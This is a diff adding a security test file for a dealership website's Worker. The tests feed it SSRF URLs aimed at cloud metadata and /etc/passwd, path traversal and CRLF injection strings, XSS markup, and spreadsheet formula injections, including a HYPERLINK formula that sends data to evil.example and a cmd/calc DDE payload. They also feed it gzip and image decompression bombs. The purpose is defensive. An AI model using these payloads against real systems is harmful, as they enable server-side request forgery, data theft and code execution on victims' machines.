@@ -1,0 +1,330 @@
+/**
+ * What somebody could try through the sheet, the Drive folder and the addresses of photos, against the built Worker.
+ *
+ * | attack | where it is tried |
+ * |---|---|
+ * | an address in the sheet or in a photo's address that leads elsewhere | here; `unit/photos/photo-ref.test.ts`, `unit/photos/photo-request.test.ts` |
+ * | a published sheet that redirects to somebody's host | `functions/clients/published-csv.test.ts` |
+ * | an id, a redirect or a query of Drive's that leads elsewhere | `functions/clients/google-drive.test.ts` |
+ * | markup, marks of direction, NUL and 10,000 characters in names | here; `unit/sync/sheet-row.invalid.test.ts` |
+ * | a formula in what is downloaded | here; `unit/vehicles/feed-csv.test.ts`, `unit/leads/leads-csv.test.ts` |
+ * | names of Drive's files and folders | `worker/photo-sync.test.ts` |
+ * | a sheet, a photo or a file that unfolds to gigabytes | here; `unit/photos/image-bombs.test.ts`, `unit/photos/photo-size.test.ts`, `functions/clients/google-sheets.test.ts` |
+ * | a call of the sheet's script forged, repeated, early or late | `worker/stock-sync.test.ts`, `unit/sync/sheet-signature.test.ts` |
+ * | secrets in what vendors answer | `worker/sync-secrets.test.ts` |
+ * | secrets in bundles | `worker/browser-bundles.test.ts` |
+ */
+import { randomUUID } from "node:crypto";
+import { mkdtempSync, rmSync } from "node:fs";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { gzipSync } from "node:zlib";
+import { createClient, type SupabaseClient } from "@supabase/supabase-js";
+import type { Miniflare } from "miniflare";
+import sharp from "sharp";
+import { afterAll, beforeAll, beforeEach, expect, test } from "vitest";
+import { isVinCheckDigitValid } from "~/vehicles/vin";
+import "../../../local/backend/storage/web-socket-name";
+import { readCsv } from "../../contracts/google/read-csv";
+import { type BackendProcess, spawnBackend } from "../../support/backend/spawn-backend";
+import { findFreePort } from "../../support/site/free-port";
+import { send } from "../../support/site/send";
+import { signIn } from "../../support/site/sign-in";
+import { startWorker } from "../../support/site/worker-bundle";
+
+const SHEET_URL = "https://docs.google.com/spreadsheets/d/e/2PACX-attacked/pub?output=csv";
+const DRIVE_ID = "1AbC_dEf-GhIjKlMnOpQrStUvWxYz0123";
+const HEADER = "product_name,description,price,sku,image_url,quantity";
+const makeVin = (number: number) => `ATTACK${String(number).padStart(11, "0")}`;
+
+const ELSEWHERE = [
+  "http://169.254.169.254/latest/meta-data/iam.jpg",
+  "file:///etc/passwd",
+  "//evil.example/1.jpg",
+  "https://lot.example@evil.example/1.jpg",
+  "https://xn--80ak6aa92e.com/1.jpg",
+  "http://[::ffff:169.254.169.254]/1.jpg",
+  "http://0x7f000001:8790/rest/v1/staff",
+  "https://evil.example/%2e%2e/1.jpg",
+  "https://evil.example/1.jpg%0d%0aHost:%20evil.example",
+  "gopher://evil.example/1",
+  "javascript:alert(1)",
+  "data:text/html,<script>alert(1)</script>",
+] as const;
+
+const folder = mkdtempSync(path.join(tmpdir(), "attacks-"));
+/** A vehicle of the demo whose page shows the attacking photos: the Worker fetches no others. */
+const PHOTO_VIN = "1FTEW1EP1MFA41207";
+
+/** Hosts that the Worker asked besides its backend. */
+const asked: string[] = [];
+let backend: BackendProcess;
+let service: SupabaseClient;
+let worker: Miniflare;
+let site = "";
+let cookie = "";
+let answerSheet: () => Response = () => new Response(null, { status: 404 });
+let answerDrive: () => Response = () => new Response(null, { status: 404 });
+
+async function outbound(request: Request): Promise<Response> {
+  const { method, url, headers } = request;
+  const body = method === "GET" || method === "HEAD" ? null : await request.arrayBuffer();
+  if (url.startsWith(backend.url)) return fetch(url, { method, headers: [...headers], body });
+  asked.push(url);
+  if (url === SHEET_URL) return answerSheet();
+  if (new URL(url).hostname === "drive.usercontent.google.com") return answerDrive();
+  return new Response("ami-id: what nobody may read");
+}
+
+beforeAll(async () => {
+  backend = await spawnBackend(folder, await findFreePort());
+  service = createClient(backend.url, backend.secretKey, { auth: { persistSession: false } });
+  // A sheet that does not name them takes none of them off.
+  await service.from("inventory").update({ source: "hand" }).gt("id", 0);
+  const settings = {
+    SUPABASE_URL: backend.url,
+    SUPABASE_SECRET_KEY: backend.secretKey,
+    INVENTORY_SHEET: SHEET_URL,
+    INVENTORY_FRESH_SECONDS: "0",
+  };
+  worker = await startWorker({ settings, outbound });
+  site = (await worker.ready).origin;
+  cookie = await signIn(site, "owner");
+});
+
+beforeEach(async () => {
+  asked.length = 0;
+  await service.from("inventory").delete().like("sku", "ATTACK%");
+});
+
+afterAll(async () => {
+  await worker?.dispose();
+  await backend?.kill();
+  rmSync(folder, { recursive: true, force: true });
+});
+
+const quote = (text: string) => `"${text.replaceAll('"', '""')}"`;
+
+/** Only photos that a vehicle's page shows are fetched from Drive. */
+async function showDrivePhoto(id: string): Promise<void> {
+  const photo_url = `https://drive.google.com/uc?export=view&id=${id}`;
+  const { error } = await service.from("vehicle_photos").insert({ vin: PHOTO_VIN, photo_url });
+  if (error) throw new Error(error.message);
+}
+
+/** @returns the record of the run */
+async function bringIn(rows: readonly (readonly string[])[]) {
+  const csv = [HEADER, ...rows.map((cells) => cells.map(quote).join(","))].join("\n");
+  answerSheet = () => new Response(csv, { headers: { "Content-Type": "text/csv" } });
+  return runSync();
+}
+
+async function runSync() {
+  await (await worker.getWorker()).scheduled({ cron: "*/15 * * * *" });
+  const { data } = await service
+    .from("sync_runs")
+    .select()
+    .order("id", { ascending: false })
+    .limit(1)
+    .single();
+  return data;
+}
+
+const read = async (at: string) => (await send("GET", site + at, { Cookie: cookie })).body;
+
+async function readId(vin: string): Promise<number> {
+  const { data } = await service.from("inventory").select("id").eq("sku", vin).single();
+  return data?.id;
+}
+
+test("an address in the sheet makes the Worker ask nobody, and no page hands it on", async () => {
+  const rows = ELSEWHERE.map((url, index) => ["2020 Kia Rio", "", "9000", makeVin(index), url, "1"]);
+  expect(await bringIn(rows)).toMatchObject({ state: "succeeded", counts: { added: ELSEWHERE.length } });
+  const id = await readId(makeVin(0));
+  const pages = await Promise.all(
+    [
+      "/",
+      "/inventory?make=Kia",
+      `/vehicle/${id}`,
+      "/feeds/vehicles.json",
+      "/feeds/google-vehicles.csv",
+      "/sitemap.xml",
+    ].map(read),
+  );
+  expect([...new Set(asked)]).toEqual([SHEET_URL]);
+  const handedOn = pages.filter((page) =>
+    /169\.254|evil\.example|etc\/passwd|xn--80ak|gopher:|alert\(1\)/.test(page),
+  );
+  expect(handedOn).toEqual([]);
+});
+
+test.each([
+  ...ELSEWHERE.map((url) => `bucket/${url}`),
+  ...ELSEWHERE.map((url) => encodeURIComponent(url)),
+  "bucket/..%2f..%2fauth%2fv1%2fusers.jpg",
+  "bucket/..%252f..%252frest%252fv1%252fstaff.jpg",
+  "bucket/a%0d%0aHost:%20evil.example.jpg",
+  "bucket/%00.jpg",
+  "bucket//evil.example/1.jpg",
+  "drive/..%2f..%2fdownload",
+  `drive/${DRIVE_ID}%26export=x`,
+  `drive/${DRIVE_ID}@evil.example`,
+  `drive/${DRIVE_ID}%0d%0aX: 1`,
+  "art/..%2f..%2f_headers.webp",
+])("/photos/320/%s is no photo, and nobody is asked for it", async (address) => {
+  const { status } = await send("GET", `${site}/photos/320/${address.replaceAll(" ", "%20")}`);
+  expect(status).toBeGreaterThanOrEqual(400);
+  expect(status).toBeLessThan(500);
+  expect(asked).toEqual([]);
+});
+
+const OVERRIDE = "\u202E";
+const UNWANTED = [/<img src=x|<script>alert/, /[\u202A-\u202E\u2066-\u2069]/u, /(?![\t\r\n])\p{Cc}/u];
+
+test("markup is text, a mark of direction turns nothing around, and a name without end is turned away", async () => {
+  const run = await bringIn([
+    [
+      '2020 Kia <img src=x onerror=alert(1)>"',
+      "</script><script>alert(2)</script> | 10 miles",
+      "9000",
+      makeVin(1),
+      "",
+      "1",
+    ],
+    [`2020 Kia ${OVERRIDE}oiR\u2066`, "Blue\u0007 | 10 miles", "9000", makeVin(2), "", "1"],
+    ["2020 Kia\0 Rio", "", "9000", makeVin(3), "", "1"],
+    [`2020 Kia ${"x".repeat(10_000)}`, "", "9000", makeVin(4), "", "1"],
+    ["2020 Kia Rio", "", "9000", `${makeVin(5)}<b>`, "", "1"],
+  ]);
+  expect(run).toMatchObject({ state: "succeeded", counts: { added: 3, rejected: 2 } });
+  const ids = await Promise.all([1, 2, 3].map((number) => readId(makeVin(number))));
+  const addresses = [
+    "/inventory?make=Kia",
+    "/staff/stock",
+    "/staff/vehicles",
+    ...ids.map((id) => `/vehicle/${id}`),
+  ];
+  for (const address of addresses) {
+    const page = await read(address);
+    expect([address, UNWANTED.some((pattern) => pattern.test(page))]).toEqual([address, false]);
+    expect([address, page.length < 600_000]).toEqual([address, true]);
+  }
+  expect(await read(`/vehicle/${ids[0]}`)).toContain("&lt;img src=x onerror=alert(1)&gt;");
+  expect(await read(`/vehicle/${ids[2]}`)).toContain("2020 Kia Rio");
+});
+
+const FORMULAS = [
+  '=HYPERLINK("https://evil.example/?"&A1)',
+  "+1+1",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(A1)",
+  "\t=1+1",
+  "|calc",
+  "%0A=1",
+  "＝1+1",
+  "\u200B=1+1",
+] as const;
+/** What a spreadsheet runs, at the beginning of a cell or after blanks. */
+const RUN = /^\s*[=+\-@|%＝＋－＠]|^[\t\r\n]/u;
+
+/** The same with the ninth character that its sum asks for: Google takes no other. */
+function makeTrueVin(number: number): string {
+  const vin = makeVin(number);
+  const digits = [..."0123456789X"].map((digit) => `${vin.slice(0, 8)}${digit}${vin.slice(9)}`);
+  return digits.find(isVinCheckDigitValid) ?? vin;
+}
+
+test("a formula in the sheet is one in no file that a spreadsheet opens", async () => {
+  const names = FORMULAS.flatMap((formula) => [
+    `2020 ${formula} Rio`,
+    `2020 Kia ${formula}`,
+    `2020 Kia Rio ${formula}`,
+  ]);
+  const rows = names.map((name, index) => {
+    const color = (FORMULAS[index % FORMULAS.length] ?? "").replaceAll("|", "");
+    return [name, `${color} | 10 miles`, "9000", makeTrueVin(100 + index), "", "1"];
+  });
+  expect(await bringIn(rows)).toMatchObject({ state: "succeeded", counts: { added: rows.length } });
+  const feed = readCsv(await read("/feeds/google-vehicles.csv"));
+  const vins = rows.map(([, , , vin]) => vin);
+  expect(feed.filter(([vin]) => vins.includes(vin ?? ""))).toHaveLength(rows.length);
+
+  const [name = "", , , vin = ""] = rows[1] ?? [];
+  const fields = {
+    ...{ key: randomUUID(), opened: String(Date.now() - 5000), website: "", subject: "test-drive" },
+    ...{ name: FORMULAS[0], email: "ana@example.com", phone: "(407) 555-0171", message: FORMULAS[1] },
+    ...{ vehicle: name, vin },
+  };
+  const taken = await send("POST", `${site}/contact`, { Origin: site }, fields);
+  expect(taken.headers.location).toMatch(/^\/contact\/thanks/);
+  const leads = readCsv((await read("/staff/leads.csv")).replace("\uFEFF", ""));
+  expect(leads.flat()).toContain(`'${FORMULAS[0]}`);
+  expect([...feed, ...leads].flat().filter((cell) => RUN.test(cell))).toEqual([]);
+});
+
+const GIGABYTE = 1024 ** 3;
+
+test("a sheet that unfolds to a gigabyte is left at 20 MB, and the Worker goes on", async () => {
+  const line = Buffer.from(`${HEADER}\n`.repeat(64));
+  const packed = gzipSync(Buffer.alloc(GIGABYTE / 16, line));
+  const bomb = Buffer.concat(Array.from({ length: 16 }, () => packed));
+  expect(bomb.length).toBeLessThan(8 * 1024 * 1024);
+  const headers = { "Content-Type": "text/csv", "Content-Encoding": "gzip" };
+  answerSheet = () => new Response(bomb, { headers, encodeBody: "manual" } as ResponseInit);
+  const run = await runSync();
+  expect(run).toMatchObject({ state: "failed", error_code: "sheetUnreadable" });
+  expect((await send("GET", `${site}/inventory`)).status).toBe(200);
+});
+
+/** The same picture claiming 30,000 by 30,000 pixels, of which VP8 in a WebP holds 16,383 at the most. */
+async function forge(format: "jpeg" | "png" | "webp" | "avif"): Promise<Buffer> {
+  const bytes = await sharp({ create: { width: 300, height: 200, channels: 3, background: "#203040" } })
+    .toFormat(format)
+    .toBuffer();
+  const claims = {
+    jpeg: [bytes.indexOf(Buffer.from([0xff, 0xc0])) + 5, [0x75, 0x30, 0x75, 0x30]],
+    png: [16, [0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30]],
+    webp: [bytes.indexOf("VP8 ") + 14, [0xff, 0x3f, 0xff, 0x3f]],
+    avif: [bytes.indexOf("ispe") + 8, [0, 0, 0x75, 0x30, 0, 0, 0x75, 0x30]],
+  } as const;
+  const [at, claim] = claims[format];
+  bytes.set(claim, at);
+  return bytes;
+}
+
+test.each(["jpeg", "png", "webp", "avif"] as const)(
+  "a %s of 30,000 by 30,000 pixels behind a photo's address is no photo",
+  async (format) => {
+    const bomb = await forge(format);
+    answerDrive = () =>
+      new Response(new Uint8Array(bomb), { headers: { "Content-Type": `image/${format}` } });
+    await showDrivePhoto(`${DRIVE_ID}${format}`);
+    const { status, body } = await send("GET", `${site}/photos/320/drive/${DRIVE_ID}${format}`);
+    expect([status, body]).toEqual([404, ""]);
+    // The lead of a test above may be on its way to a phone meanwhile.
+    const address = `https://drive.usercontent.google.com/download?export=view&id=${DRIVE_ID}${format}`;
+    expect(asked.filter((url) => new URL(url).hostname.endsWith("google.com"))).toEqual([address]);
+  },
+);
+
+/** Of a megabyte; whoever reads as far meets a broken connection, and not the limit. */
+const MOST_PIECES = 100;
+
+test("a photo without an end is left at 12 MB", async () => {
+  let sent = 0;
+  answerDrive = () =>
+    new Response(
+      new ReadableStream({
+        pull(controller) {
+          sent += 1;
+          if (sent > MOST_PIECES) controller.error(new Error("nobody has left"));
+          else controller.enqueue(new Uint8Array(1024 * 1024).fill(0xff));
+        },
+      }),
+      { headers: { "Content-Type": "image/jpeg" } },
+    );
+  await showDrivePhoto(`${DRIVE_ID}endless`);
+  const { status } = await send("GET", `${site}/photos/320/drive/${DRIVE_ID}endless`);
+  expect(status).toBe(404);
+  expect(sent).toBeGreaterThan(11);
+});
